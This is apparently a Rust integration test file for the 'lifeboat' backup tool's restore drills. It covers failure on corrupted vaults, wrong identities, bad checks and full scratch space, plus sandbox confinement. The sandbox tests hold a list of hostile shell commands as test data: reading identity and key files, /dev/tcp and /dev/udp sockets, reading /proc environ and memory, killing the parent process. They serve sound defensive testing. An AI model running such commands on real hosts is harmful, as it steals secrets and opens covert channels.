//! A drill can fail. Each sabotage here must make it: exit 21, an RTO that is not met, a record, a status that is
//! critical, and a scratch folder that is gone. And what a drill restored gets no hold of the host.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use lifeboat::domain::contents::{Facts, Line, MemberKind, SqliteFacts};
use lifeboat::domain::ids::ContentHash;
use lifeboat::domain::manifest::SourceEntry;
use lifeboat::vault::layout::Key;
use serde_json::Value;

use crate::forge::{Forge, member, tar};
use crate::support::{Mount, World, said};

const DRILL: [&str; 3] = ["drill", "--identity", "identity.txt"];

/// What a failed drill says of the backup.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Backup {
    /// It is bad.
    Refuted,
    /// Nothing: something else went wrong.
    Unproven,
}

/// Runs a drill that must fail, and looks at everything that must follow from that.
#[track_caller]
fn fails(world: &World, args: &[&str], backup: Backup, code: &str, says: &str) -> Value {
    let records = world.keys("records/drills").len();
    let document = world.json(21, args);
    let drill = document["drills"][0].clone();
    assert_eq!((&drill["outcome"], &drill["rto_met"]), (&"failed".into(), &false.into()), "{drill}");
    assert!(drill["errors"].to_string().contains(says), "{says:?} is not in {drill}");
    let refutes = backup == Backup::Refuted;
    assert_eq!(drill["refutes_backup"], refutes, "{drill}");
    let keys = world.keys("records/drills");
    assert_eq!(keys.len(), records + 3, "record, signature and details: {keys:?}");
    let record = keys.iter().find(|key| key.ends_with(&format!("{}.json", drill["id"].as_str().unwrap()))).unwrap();
    let record: Value = serde_json::from_slice(&fs::read(world.path("vault").join(record)).unwrap()).unwrap();
    assert_eq!((&record["outcome"], &record["error_code"]), (&"failed".into(), &code.into()), "{record}");
    let status = world.json(0, &["status"]);
    assert_eq!(status["jobs"][0]["state"], "critical", "{status}");
    assert_eq!(world.run(&["status", "--nagios"]).code, Some(2));
    if world.scratch().is_dir() {
        assert!(fs::read_dir(world.scratch()).unwrap().next().is_none(), "scratch is not empty");
    }
    assert_eq!(newest(world)["verdict"], if refutes { "refuted" } else { "unproven" });
    drill
}

/// The newest backup as `list` shows it.
fn newest(world: &World) -> Value {
    world.json(0, &["list"])["backups"].as_array().unwrap().last().unwrap().clone()
}

#[track_caller]
fn passes(world: &World) {
    let document = world.json(0, &DRILL);
    assert_eq!(document["drills"][0]["outcome"], "passed", "{document}");
    assert_eq!(newest(world)["verdict"], "proven");
    assert_eq!(world.json(0, &["status"])["jobs"][0]["state"], "ok");
}

fn source<'m>(sources: &'m mut [SourceEntry], name: &str) -> &'m mut SourceEntry {
    sources.iter_mut().find(|source| source.name.as_str() == name).unwrap()
}

#[test]
fn a_damaged_vault_fails_it_and_a_repaired_one_clears_the_verdict() {
    let world = World::new();
    world.backup();
    let forge = Forge::of(&world);
    let large = forge.segments(&forge.manifests()[0].sources[0]).into_iter().max_by_key(|s| s.stored_bytes).unwrap();
    let path = world.path("vault").join(Key::Object(large.object).to_string());
    let sound = fs::read(&path).unwrap();

    let mut flipped = sound.clone();
    flipped[4321] ^= 4;
    fs::write(&path, flipped).unwrap();
    fails(&world, &DRILL, Backup::Refuted, "object-damaged", &large.object.to_string());
    fs::write(&path, &sound).unwrap();
    passes(&world);

    fs::remove_file(&path).unwrap();
    fails(&world, &DRILL, Backup::Refuted, "object-missing", &large.object.to_string());
    fs::write(&path, &sound).unwrap();
    passes(&world);
}

#[test]
fn a_wrong_or_missing_identity_fails_it_and_says_nothing_of_the_backup() {
    let world = World::new();
    world.backup();
    world.expect(0, &["key", "new", "other.txt"]);
    let wrong = ["drill", "--identity", "other.txt"];
    let drill = fails(&world, &wrong, Backup::Unproven, "no-identity", "sealed to age1");
    let recipient = fs::read_to_string(world.path("identity.txt")).unwrap();
    let recipient = recipient.lines().find_map(|line| line.strip_prefix("# public key: ")).unwrap().to_owned();
    assert!(drill["errors"].to_string().contains(&recipient), "{drill}");

    // None at all is a mistake in the command: nothing was tried, and no failed drill goes on record.
    let drills = world.keys("records/drills").len();
    let said = world.expect(12, &["drill"]);
    assert!(said.stderr.contains("no identity was given"), "{}", said.stderr);
    assert_eq!(world.keys("records/drills").len(), drills);

    let config = fs::read_to_string(world.path("lifeboat.toml")).unwrap();
    let named = config.replace("[job.shop.drill]\n", "[job.shop.drill]\nidentity = { file = \"gone.txt\" }\n");
    fs::write(world.path("lifeboat.toml"), named).unwrap();
    fails(&world, &["drill"], Backup::Unproven, "secret-unavailable", "gone.txt");
}

#[test]
fn the_users_checks_fail_it_and_say_nothing_of_the_backup() {
    let cases = [
        ("{ source = \"db\", sql = \"select count(*) > 500 from users\" }", "got 0"),
        ("{ source = \"db\", sql = \"select count(*) from gone\" }", "no such table"),
        ("{ source = \"db\", sql = \"select null\" }", "NULL"),
        ("{ source = \"db\", freshness = \"select max(created_at) from users\", within = \"26h\" }", "2026-01-01"),
        ("{ source = \"db\", freshness = \"select max(created_at) from users where 0\", within = \"26h\" }", "NULL"),
        ("{ source = \"db\", freshness = \"select '2999-01-01 00:00:00'\", within = \"26h\" }", "after the drill"),
        ("{ command = [\"sh\", \"-c\", \"echo nobody home >&2; exit 1\"] }", "nobody home"),
        ("{ command = [\"no-such-program-anywhere\"] }", "no-such-program-anywhere"),
    ];
    for (check, says) in cases {
        // A check that passes beside it does not save it.
        let good = "{ source = \"db\", sql = \"select count(*) = 500 from users\" }";
        let world = World::with_drill(&format!("checks = [{check}, {good}]"));
        world.backup();
        let drill = fails(&world, &DRILL, Backup::Unproven, "drill-failed", says);
        let checks = drill["checks"].as_array().unwrap();
        let failed: Vec<&Value> = checks.iter().filter(|check| check["passed"] == false).collect();
        assert_eq!(failed.len(), 1, "{drill}");
        assert_eq!(checks.last().unwrap()["passed"], true, "{drill}");
    }
}

/// A relative command starts at the config's folder, wherever the drill is started and under whatever rights it runs.
#[test]
fn a_command_beside_the_config_is_found() {
    for trust in ["", "trust_source = true\n"] {
        let world = World::with_drill(&format!("{trust}checks = [{{ command = [\"./smoke.sh\"] }}]"));
        let script = "#!/bin/sh\ntest -d \"$LIFEBOAT_UPLOADS_DIR\"\n";
        fs::write(world.path("smoke.sh"), script).unwrap();
        fs::set_permissions(world.path("smoke.sh"), fs::Permissions::from_mode(0o700)).unwrap();
        world.backup();
        passes(&world);
        let (config, identity) = (world.path("lifeboat.toml"), world.path("identity.txt"));
        let (config, identity) = (config.to_str().unwrap(), identity.to_str().unwrap());
        let said = said(world.command(&["drill", "--config", config, "--identity", identity]).current_dir("/"));
        assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
        fs::write(world.path("smoke.sh"), "#!/bin/sh\nexit 7\n").unwrap();
        let document = world.json(21, &DRILL);
        assert!(document["drills"][0]["errors"].to_string().contains("exit status: 7"), "{document}");
    }
}

#[test]
fn a_hung_check_fails_it_and_its_children_die() {
    let seconds = format!("1000.{}", std::process::id());
    let world = World::with_drill(&format!(
        "check_timeout = \"2s\"\nchecks = [{{ command = [\"sh\", \"-c\", \"setsid sleep {seconds} & sleep {seconds} & sleep {seconds}\"] }}]"
    ));
    world.backup();
    fails(&world, &DRILL, Backup::Unproven, "drill-failed", "was killed after 2 s");
    assert_eq!(running(&seconds), 0, "children outlived the check");
}

/// Processes that have this among their arguments.
fn running(argument: &str) -> usize {
    let processes = fs::read_dir("/proc").unwrap().map(|entry| entry.unwrap().path().join("cmdline"));
    processes
        .filter_map(|path| fs::read(path).ok())
        .filter(|line| line.split(|&b| b == 0).any(|word| word == argument.as_bytes()))
        .count()
}

#[test]
fn a_scratch_that_cannot_be_had_fails_it_and_says_nothing_of_the_backup() {
    let world = World::new();
    world.backup();
    fs::write(world.scratch(), "a file").unwrap();
    fails(&world, &DRILL, Backup::Unproven, "scratch-failed", "Not a directory");
    fs::remove_file(world.scratch()).unwrap();

    fs::create_dir(world.scratch()).unwrap();
    let small = Mount::tmpfs(&world.scratch(), "2m");
    let drill = fails(&world, &DRILL, Backup::Unproven, "scratch-failed", "2.0 MiB free");
    assert_eq!(drill["restored_bytes"], 0);
    drop(small);
    // Room enough, it seems, and still it fills up half-way.
    let few_names = Mount::tmpfs(&world.scratch(), "200m,nr_inodes=20");
    let drill = fails(&world, &DRILL, Backup::Unproven, "storage-full", "No space left");
    assert!(!drill["checks"].as_array().unwrap().iter().any(|check| check["passed"] == true), "{drill}");
    drop(few_names);
    passes(&world);
}

/// Makes a backup whose SQLite facts are changed, and drills it.
fn with_facts(change: impl Fn(&mut SqliteFacts), says: &str) {
    let world = World::new();
    world.backup();
    let forge = Forge::of(&world);
    let mut manifest = forge.next();
    let db = source(&mut manifest.sources, "db");
    let mut lines = forge.contents(db);
    let facts = lines.iter_mut().find_map(|line| match line {
        Line::Facts(Facts::Sqlite(facts)) => Some(facts),
        _ => None,
    });
    change(facts.unwrap());
    forge.replace_contents(db, &lines);
    forge.commit(&manifest);
    fails(&world, &DRILL, Backup::Refuted, "drill-failed", says);
    // The backup before it is as good as ever.
    let document = world.json(0, &["drill", "--backup", "oldest", "--identity", "identity.txt"]);
    assert_eq!(document["drills"][0]["outcome"], "passed");
    assert_eq!(newest(&world)["verdict"], "refuted");
    let restored = world.expect(0, &["restore", "shop", "--to", "out", "--identity", "identity.txt"]);
    assert!(restored.stderr.contains(forge.manifests()[0].id.as_str()), "the unrefuted one: {}", restored.stderr);
}

#[test]
fn a_database_that_differs_from_its_facts_fails_it() {
    with_facts(|facts| facts.tables[0].rows += 1, "501");
    with_facts(|facts| facts.tables[0].checksum = "0".repeat(32), "checksum");
    with_facts(|facts| facts.user_version += 7, "user_version");
    with_facts(|facts| facts.schema = ContentHash([3; 32]), "schema");
    with_facts(
        |facts| {
            let mut more = facts.tables[0].clone();
            more.name = "zz_more".to_owned();
            facts.tables.push(more);
        },
        "zz_more",
    );
    with_facts(|facts| facts.tables.clear(), "users");
}

#[test]
fn files_that_differ_from_their_contents_fail_it() {
    let (folder, file) = (member("t", MemberKind::Folder, b"", None), member("t/a", MemberKind::File, b"aaa", None));
    let other = member("t/b", MemberKind::File, b"bbb", None);
    let in_tar = [(folder.clone(), &b""[..]), (file.clone(), b"aaa"), (other.clone(), b"bbb")];
    let mut wrong_hash = file.clone();
    wrong_hash.blake3 = Some(ContentHash([9; 32]));
    let mut wrong_mode = file.clone();
    wrong_mode.mode = 0o600;
    let mut wrong_time = file.clone();
    wrong_time.mtime_seconds += 1;
    let mut attributed = file.clone();
    attributed.xattrs = vec![("user.a".into(), "b".into())];
    let unseen = member("t/c", MemberKind::File, b"ccc", None);
    let cases = [
        ("another hash", vec![folder.clone(), wrong_hash, other.clone()], "t/a"),
        ("another mode", vec![folder.clone(), wrong_mode, other.clone()], "t/a"),
        ("another time", vec![folder.clone(), wrong_time, other.clone()], "t/a"),
        ("an attribute more", vec![folder.clone(), attributed, other.clone()], "t/a"),
        ("a member more in the tar", vec![folder.clone(), file.clone()], "t/b"),
        ("a member less in the tar", vec![folder.clone(), file.clone(), other.clone(), unseen], "t/c"),
    ];
    let world = World::new();
    world.backup();
    let forge = Forge::of(&world);
    let forged = |told| {
        let mut manifest = forge.next();
        forge.replace_pieces(source(&mut manifest.sources, "uploads"), &[(vec![tar(&in_tar)], told)], None);
        forge.commit(&manifest);
    };
    // The forgery itself is sound: what fails below fails for its difference.
    forged(vec![folder.clone(), file.clone(), other.clone()]);
    passes(&world);
    for (what, told, says) in cases {
        forged(told);
        let drill = fails(&world, &DRILL, Backup::Refuted, "drill-failed", says);
        assert_eq!(drill["checks"].as_array().unwrap().iter().filter(|c| c["passed"] == false).count(), 1, "{what}");
    }
}

#[test]
fn what_a_killed_drill_left_is_removed_by_the_next() {
    let seconds = format!("2000.{}", std::process::id());
    let world = World::with_drill(&format!(
        "checks = [{{ command = [\"sh\", \"-c\", \"test -e $LIFEBOAT_UPLOADS_DIR/../go || exec sleep {seconds}\"] }}]"
    ));
    world.backup();
    let mut drill = world.command(&DRILL).stdout(std::process::Stdio::null()).spawn().unwrap();
    let until = Instant::now() + Duration::from_secs(60);
    while running(&seconds) == 0 {
        assert!(Instant::now() < until && drill.try_wait().unwrap().is_none(), "the check never began");
        std::thread::yield_now();
    }
    drill.kill().unwrap();
    drill.wait().unwrap();
    // Without its drill the check ends by itself.
    while running(&seconds) > 0 {
        assert!(Instant::now() < until, "the killed drill's check lives on");
        std::thread::yield_now();
    }
    let left: Vec<_> = fs::read_dir(world.scratch()).unwrap().map(|entry| entry.unwrap().path()).collect();
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(left[0].join("uploads").is_dir());

    let config = fs::read_to_string(world.path("lifeboat.toml")).unwrap();
    fs::write(world.path("lifeboat.toml"), config.replace(&seconds, "0")).unwrap();
    let said = world.expect(0, &DRILL);
    assert!(said.stderr.contains(left[0].to_str().unwrap()), "it says so: {}", said.stderr);
    assert!(fs::read_dir(world.scratch()).unwrap().next().is_none());
}

/// What foreign code would like to do to a host, and would manage with our rights.
fn attacks(root: &str, port: u16) -> Vec<String> {
    vec![
        format!("cat {root}/identity.txt"),
        format!("cat {root}/vault.key"),
        format!("cat {root}/lifeboat.toml"),
        format!("cat {root}/state/host.key"),
        format!("ls {root}/state"),
        format!("ls {root}/vault"),
        format!("cat {root}/vault/vault.json"),
        format!("touch {root}/vault/stray"),
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}"),
        "touch $LIFEBOAT_SCRATCH/../stray".to_owned(),
        "touch $LIFEBOAT_SCRATCH/.lifeboat-drill".to_owned(),
        "test $(id -u) = 0".to_owned(),
        "setpriv --reuid=0 true".to_owned(),
        "ls /proc/$PPID/fd".to_owned(),
    ]
}

/// A world whose drill runs these with bash, one by one.
fn attacked(trust: &str, attacks: impl Fn(&str) -> Vec<String>) -> World {
    let world = World::with_drill("CHECKS");
    let root = world.path("").to_str().unwrap().trim_end_matches('/').to_owned();
    let checks: Vec<String> =
        attacks(&root).iter().map(|attack| format!("{{ command = [\"bash\", \"-c\", '{attack}'] }}")).collect();
    let config = fs::read_to_string(world.path("lifeboat.toml")).unwrap();
    let config = config.replace("CHECKS", &format!("{trust}checks = [\n{}\n]", checks.join(",\n")));
    fs::write(world.path("lifeboat.toml"), config).unwrap();
    world.backup();
    world
}

/// The commands' results, in order.
fn commands(drill: &Value) -> Vec<&Value> {
    let of_command = |check: &&Value| check["name"].as_str().unwrap().starts_with("command ");
    drill["checks"].as_array().unwrap().iter().filter(of_command).collect()
}

#[test]
fn hostile_code_reaches_nothing_of_ours() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let all = |root: &str| {
        let mut all = attacks(root, port);
        // What nobody should try with our rights.
        all.push("cat /proc/$PPID/environ | grep -a IDENTITY".to_owned());
        all.push("cat /proc/1/mem".to_owned());
        all.push("env | grep -i identity".to_owned());
        all.push("kill -KILL $PPID".to_owned());
        all.push("exec 3<>/dev/udp/192.0.2.1/53 && echo x >&3".to_owned());
        all
    };
    let harmless = [
        // That bash and cat work at all, and the restored copy is there for them.
        "cat $(find $LIFEBOAT_UPLOADS_DIR -name small-00)".to_owned(),
        "touch $TMPDIR/mine && ls $LIFEBOAT_SCRATCH".to_owned(),
    ];
    let world = attacked("", |root| [all(root), harmless.to_vec()].concat());
    let mut drill = world.command(&["drill", "--json"]);
    let said = said(drill.env("LIFEBOAT_IDENTITY", world.path("identity.txt")));
    assert_eq!(said.code, Some(21), "{}\n{}", said.stdout, said.stderr);
    let document: Value = serde_json::from_str(&said.stdout).unwrap();
    let drill = &document["drills"][0];
    assert_eq!(drill["environment"]["confinement"], "own-uid-no-network", "{drill}");
    let commands = commands(drill);
    let (hostile, harmless) = commands.split_at(commands.len() - harmless.len());
    assert_eq!(hostile.len(), all("").len());
    for check in hostile {
        assert_eq!(check["passed"], false, "{check}");
    }
    for check in harmless {
        assert_eq!(check["passed"], true, "{check}");
    }
    assert_eq!(listener.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody came through");
    assert!(fs::read_dir(world.scratch()).unwrap().next().is_none(), "scratch is not empty");
    world.expect(0, &["check"]);
}

/// So that the test above means something: these attacks do work where nothing holds them.
#[test]
fn a_trusted_source_reaches_all_of_it_and_the_record_says_so() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let world = attacked("trust_source = true\n", |root| attacks(root, port));
    let document = world.json(0, &DRILL);
    let drill = &document["drills"][0];
    assert_eq!(drill["environment"]["confinement"], "trusted-source", "{drill}");
    assert_eq!(commands(drill).len(), attacks("", 0).len());
    for check in commands(drill) {
        assert_eq!(check["passed"], true, "{check}");
    }
    listener.accept().unwrap();
}

#[test]
fn secrets_that_others_can_read_stop_it_before_anything_runs() {
    let world = World::with_drill("checks = [{ command = [\"true\"] }]");
    world.backup();
    let open_up = |path: &str, mode| fs::set_permissions(world.path(path), fs::Permissions::from_mode(mode)).unwrap();
    open_up("", 0o755);
    // The config is 0600, the state folder 0700; the vault and the identity are what this is about.
    open_up("vault", 0o755);
    fails(&world, &DRILL, Backup::Unproven, "unconfined", "vault can be read");
    open_up("vault", 0o700);
    open_up("identity.txt", 0o644);
    fails(&world, &DRILL, Backup::Unproven, "unconfined", "identity.txt can be read");
    open_up("identity.txt", 0o600);
    passes(&world);
}
